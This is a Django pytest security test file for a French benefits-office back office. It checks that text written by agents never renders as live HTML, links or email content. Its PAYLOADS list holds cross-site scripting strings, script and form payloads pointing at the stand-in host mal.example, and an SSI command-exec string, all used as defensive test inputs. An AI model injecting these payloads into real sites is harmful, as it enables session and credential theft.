"""Nothing that an agent writes is more than words, on any page that draws it: an agent's session may be stolen."""

from html.parser import HTMLParser

import pytest
from django.test import Client
from django.utils import timezone

from guichet.backoffice.content import operations
from guichet.backoffice.content.fields import PlainText
from guichet.delivery import rendering
from guichet.funds import kept
from guichet.funds.models import AssistanceDesk, ConditionsDraft, GeneralConditions, NewsItem
from guichet.funds.wording import render
from tests.factories import AccountFactory, AgentFactory, enter

pytestmark = pytest.mark.django_db
PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script src=//mal.example/a.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "[gagnez](javascript:alert(1))",
    "<a href='javascript:alert(1)'>ici</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;svg onload=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    "<\u00a0script>alert(1)</script>",
    "{% debug %}{{ request }}",
    "## <h1 onclick=alert(1)>titre",
    "- <li style=position:fixed>",
    "<meta http-equiv=refresh content='0;url=//mal.example'>",
    "<form action=//mal.example><input name=mot_de_passe>",
    "--><!--#exec cmd='id'-->",
)
PUBLIC = (
    "/alsace/",
    "/alsace/assistance/",
    "/alsace/connexion/",
    "/alsace/inscription/",
    "/alsace/conditions-generales/",
)
OFFICE = ("/agents/contenus/", "/agents/contenus/assistance/", "/agents/contenus/actualites/")


class Live(HTMLParser):
    """Everything in a page that can act: tags, handlers, addresses."""

    def __init__(self, source):
        super().__init__()
        self.found = []
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        handlers = sorted(name for name in values if name.startswith("on"))
        address = values.get("href") or values.get("src") or values.get("action") or ""
        scheme = address.strip().casefold().partition(":")[0] if ":" in address else ""
        if tag in {"script", "iframe", "object", "embed", "base", "img", "svg", "meta", "form", "style"} or handlers:
            self.found.append((tag, tuple(handlers), values.get("src"), values.get("action"), values.get("style")))
        if scheme not in {"", "http", "https", "tel", "mailto"}:
            self.found.append((tag, address))


def live(client, address):
    """Return what can act in a page, and its policy."""
    response = client.get(address, follow=True)
    assert response.status_code == 200, address
    return Live(response.content.decode()).found, response.headers["Content-Security-Policy"]


def put_everywhere(words):
    """Let the database hold these words in every field that agents fill in, as if no form had looked at them."""
    now = timezone.now()
    values = {"title": words[:150], "body": words, "published_at": now, "fund_code": "68"}
    agent = AgentFactory(roles=["administrator"])
    operations.publish_item(
        fund_code="68", facts={name: values[name] for name in ("title", "body", "published_at")}, agent=agent, now=now
    )
    NewsItem.objects.create(**values, as_banner=True, interruption=True)
    kept.BANNERS.forget()
    text = words[:200]
    AssistanceDesk.objects.filter(fund_code="68").update(
        telephone=words[:20], telephone_note=text, hours=text, switchboard=words[:20], email=words
    )
    GeneralConditions.objects.create(version=9, text=words, summary=words, published_at=now)
    kept.VERSIONS.forget()


@pytest.mark.parametrize("words", PAYLOADS)
def test_no_page_runs_what_an_agent_wrote(as_administrator, client, words):
    administrator, national = as_administrator(), as_administrator("")
    account = AccountFactory()
    member = enter(Client(), account)
    pages = [(client, address) for address in PUBLIC]
    pages += [(administrator.client, address) for address in OFFICE] + [(member, "/espace/")]
    # A page with harmless words of the same shape has the same tags.
    put_everywhere("Bonjour\n- oui" if words.startswith("- ") else "Bonjour")
    before = [live(*page) for page in pages]
    NewsItem.objects.all().delete()
    GeneralConditions.objects.filter(version=9).delete()
    put_everywhere(words)
    assert [live(*page) for page in pages] == before
    asked = enter(Client(), account)
    response = asked.get("/espace/", follow=True)
    assert response.redirect_chain == [("/connexion/conditions/", 302)]
    assert all(
        "mal.example" not in str(one) and "alert" not in str(one) for one in Live(response.content.decode()).found
    )
    ConditionsDraft.objects.create(version=10, text=words, summary=words, publish_at=timezone.now(), revision=1)
    found, _policy = live(national.client, "/agents/contenus/conditions/projet/relire/")
    assert all("mal.example" not in str(one) and "alert" not in str(one) for one in found)


@pytest.mark.parametrize("words", PAYLOADS)
def test_a_telephone_link_dials_and_does_nothing_else(words):
    desk = AssistanceDesk(telephone=f"+{words}12", switchboard=f"javascript:{words}3")
    assert set(desk.telephone_address.removeprefix("+")) <= set("0123456789")
    assert desk.switchboard_address.isdecimal()


@pytest.mark.parametrize("words", PAYLOADS)
def test_emails_escape_the_desk(words):
    put_everywhere(words)
    values = {**rendering.surroundings("68"), "code": "123456", "minutes": 15}
    source = rendering.html("one_time_codes/security_code", "email.html", values)
    assert all("mal.example" not in str(one) and "alert" not in str(one) for one in Live(source).found)
    assert "<script" not in source
    assert rendering.subject("one_time_codes/security_code", fund_name="MSA").count("\n") == 0


@pytest.mark.parametrize("field", ["titre", "texte"])
@pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\x00", "\x1b", "\u200e", "\ue000"])
def test_what_would_not_show_is_refused(walker, field, mark):
    typed = {"nature": "actualite", "titre": "Titre", "texte": "Texte", field: f"Votre {mark}caisse"}
    walker.get("/agents/contenus/actualites/nouvelle/").press("Voir l'aperçu", **typed)
    assert field in walker.errors
    assert not NewsItem.objects.exists()


def test_what_word_processors_paste_is_dropped_in_silence():
    assert PlainText().clean("agri\u00adcul\u200bture\ufeff") == "agriculture"


def test_huge_input_is_an_error_at_its_field_or_a_refusal(walker):
    typed = {"nature": "actualite", "titre": "a" * 100_000, "texte": "<" * 100_000}
    walker.get("/agents/contenus/actualites/nouvelle/").press("Voir l'aperçu", **typed)
    assert set(walker.errors) == {"titre", "texte"}
    walker.get("/agents/contenus/actualites/nouvelle/").press("Voir l'aperçu", titre="a" * 400_000)
    assert walker.status in {400, 413}


def test_a_form_sent_from_elsewhere_changes_nothing(as_administrator):
    walker = as_administrator()
    strict = Client(enforce_csrf_checks=True)
    strict.cookies = walker.client.cookies
    for address in ("assistance/", "actualites/nouvelle/", "conditions/projet/approuver/"):
        assert strict.post(f"/agents/contenus/{address}", {"publier": "1"}).status_code == 403
    assert not NewsItem.objects.exists()


def test_the_notation_has_no_address_and_no_attribute():
    for words in PAYLOADS:
        html = render(words)
        for tag in ("h2", "p", "ul", "li"):
            html = html.replace(f"<{tag}>", "").replace(f"</{tag}>", "")
        assert "<" not in html.replace("<br>", "")
